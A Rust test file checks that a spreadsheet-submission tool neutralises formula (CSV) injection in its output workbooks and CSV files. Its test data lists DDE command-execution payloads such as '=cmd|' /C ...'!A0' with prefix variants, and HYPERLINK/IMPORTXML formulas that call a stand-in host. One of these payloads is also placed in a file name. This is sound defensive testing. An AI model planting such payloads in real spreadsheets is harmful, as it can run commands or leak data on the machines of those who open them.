//! Texts of a submission that begin like formulas never run: not in a workbook of ours, not in a table opened in Excel.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::fs;
use std::io::{Cursor, Read};

use common::{Workspace, edit, files_below, treem};
use serde_json::json;

const PERIOD: &str = "2024-S1";
/// A word that only the texts below have.
const MARK: &str = "calc123";
const TEXTS: [&str; 9] = [
    "=HYPERLINK(\"http://calc123/\",\"xem\")",
    "=cmd|' /C calc123'!A0",
    "+cmd|' /C calc123'!A0",
    "-2+3+cmd|' /C calc123'!A0",
    "@SUM(1)*cmd|' /C calc123'!A0",
    " \t=calc123()",
    "＝calc123()",
    "{=calc123()}",
    "=IMPORTXML(CONCAT(\"http://calc123/\",A1),\"//a\")",
];

/// What may run in the parts of a workbook: formulas, links and names.
fn running(bytes: &[u8]) -> Vec<String> {
    let mut package = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut found = Vec::new();
    for index in 0..package.len() {
        let mut part = package.by_index(index).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut text = String::new();
        if part.read_to_string(&mut text).is_err() {
            continue;
        }
        assert!(!name.contains("externalLink"), "{name}");
        for tag in ["f", "definedName", "formula", "formula1", "formula2"] {
            let open = [format!("<{tag}>"), format!("<{tag} ")];
            for piece in open.iter().flat_map(|open| text.split(open.as_str()).skip(1)) {
                found.push(piece.split(&format!("</{tag}>")).next().unwrap().to_owned());
            }
        }
        if name.ends_with(".rels") {
            found.push(text);
        }
    }
    found
}

/// The fields of a table that a spreadsheet would run.
fn acting(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(bytes);
    let acts = |field: &&str| {
        let field = field.trim_start();
        field.starts_with(['=', '+', '@', '＝', '－', '＋', '＠'])
            || (field.starts_with('-') && field.contains(MARK))
    };
    reader
        .records()
        .map(Result::unwrap)
        .flat_map(|row| row.iter().filter(acts).map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Looks at every output that a spreadsheet opens; how many of them quote a planted text.
fn harmless<'a>(outputs: impl IntoIterator<Item = (&'a String, &'a Vec<u8>)>) -> usize {
    let mut quoting = 0;
    for (name, bytes) in outputs {
        if name.ends_with(".xlsx") {
            let running = running(bytes);
            assert!(!running.is_empty(), "{name} has neither formulas nor relations");
            assert!(!running.iter().any(|text| text.contains(MARK)), "{name}");
            let mut package = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
            let quotes = (0..package.len()).any(|index| {
                let mut text = String::new();
                package.by_index(index).unwrap().read_to_string(&mut text).is_ok() && text.contains(MARK)
            });
            quoting += usize::from(quotes);
        } else if name.ends_with(".csv") {
            assert_eq!(acting(bytes), Vec::<String>::new(), "{name}");
            quoting += usize::from(String::from_utf8_lossy(bytes).contains(MARK));
        }
    }
    quoting
}

#[test]
fn texts_that_begin_like_formulas_run_nowhere() {
    let workspace = Workspace::flawless(PERIOD);
    let file = workspace.file_of(PERIOD, "527");
    let mut edits = vec![json!({ "do": "inject", "texts": TEXTS })];
    for (row, text) in (1..).zip(TEXTS) {
        edits.push(json!({ "do": "put", "sheet": "B10", "row": format!("{row:02}"), "column": "1", "kind": "text", "value": text }));
    }
    // The name of a file is a text of its sender, too.
    let named = file.with_file_name(format!("=cmd {MARK}.xlsx"));
    let places = edit(&[(file.clone(), named.clone(), edits)]).remove(0);
    assert!(places[0].as_ref().unwrap().parse::<usize>().unwrap() > 50, "{places:?}");
    fs::remove_file(file).unwrap();
    workspace.run(PERIOD, &["--quiet"]).expect(1);
    let outputs = files_below(&workspace.path(&format!("out/{PERIOD}")));
    assert!(
        harmless(&outputs) >= 3,
        "findings, the returned workbook and the list of submissions quote what was sent"
    );

    let back = workspace.path("tra-lai");
    treem(&["check", named.to_str().unwrap(), "--return", back.to_str().unwrap()]).expect(1);
    assert_eq!(harmless(&files_below(&back)), 1);
}
